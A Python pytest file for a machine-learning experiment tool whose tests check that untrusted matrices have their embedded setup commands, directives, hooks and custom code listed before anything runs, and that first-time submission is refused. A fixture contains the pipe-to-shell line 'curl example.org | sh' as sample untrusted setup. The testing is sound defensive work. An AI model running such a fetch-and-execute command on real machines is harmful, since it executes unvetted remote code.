"""What a matrix brings to a machine is listed before it runs there."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

MATRIX = """
base: {data: digits, network: {name: small_cnn, width: 4, z_dim: 4}, optimiser: adam, epochs: 1, batch: 256}
grids: [{objective: [xent, {from: parts.py:mine}], seed: [0, 1]}]
evaluate: [clean]
resources:
  train: {setup: [module load cuda], directives: [prolog=/tmp/x]}
  when: [{only: seed = 1, evaluate: {setup: [curl example.org | sh]}}]
"""
PART = """
def mine(model, f, z, y, gamma, weight: float = 1.0) -> {"loss"}:
    import pathlib
    pathlib.Path(__file__).with_name("ran").touch()
    raise SystemExit("runs")
"""
CODE = [
    {"kind": "setup", "text": "module load cuda"},
    {"kind": "directive", "text": "--prolog=/tmp/x"},
    {"kind": "setup", "text": "curl example.org | sh"},
    {"kind": "part", "text": "parts.py:mine"},
]


@pytest.fixture
def foreign(tmp_path: Path) -> Path:
    (tmp_path / "parts.py").write_text(PART)
    path = tmp_path / "foreign.yaml"
    path.write_text(MATRIX)
    return path


def test_plan_lists_everything_that_will_run(call, foreign: Path, home: Path) -> None:
    home.mkdir()
    (home / "config.yaml").write_text("on_state_change: mail -s done me\n")
    hook = {"kind": "hook", "text": f"mail -s done me ({home / 'config.yaml'}, not allowed yet)"}
    assert json.loads(call("plan", foreign, "--json").out)["code"] == [*CODE, hook]
    text = "".join(call("plan", foreign).out.split())  # a long path is cut at the terminal's width
    for code in (*CODE, hook):
        assert "".join(f": {code['text']}".split()) in text
    selected = json.loads(call("plan", foreign, "--json", "--only", "seed = 0, objective = xent").out)["code"]
    assert CODE[2] not in selected


def test_a_matrix_of_data_alone_lists_nothing(call, tiny: Path) -> None:
    assert json.loads(call("plan", tiny, "--json").out)["code"] == []
    assert "\nruns " not in call("plan", tiny).out


def test_submit_says_once_that_a_matrix_was_never_submitted_from_here(call, foreign: Path, tiny: Path) -> None:
    refused = call("submit", foreign)
    introduction = f"{foreign}: never submitted from here before; it runs 4 of its own: line of shell before each job: "
    assert refused.code == 2 and refused.err.startswith(introduction), refused.err
    assert all(code["text"] in refused.err.splitlines()[0] for code in CODE)
    first, second = call("submit", tiny, "--only", "objective = xent"), call("submit", tiny)
    assert f"{tiny}: never submitted from here before; it brings no code of its own" in first.err
    assert "never submitted" not in second.err
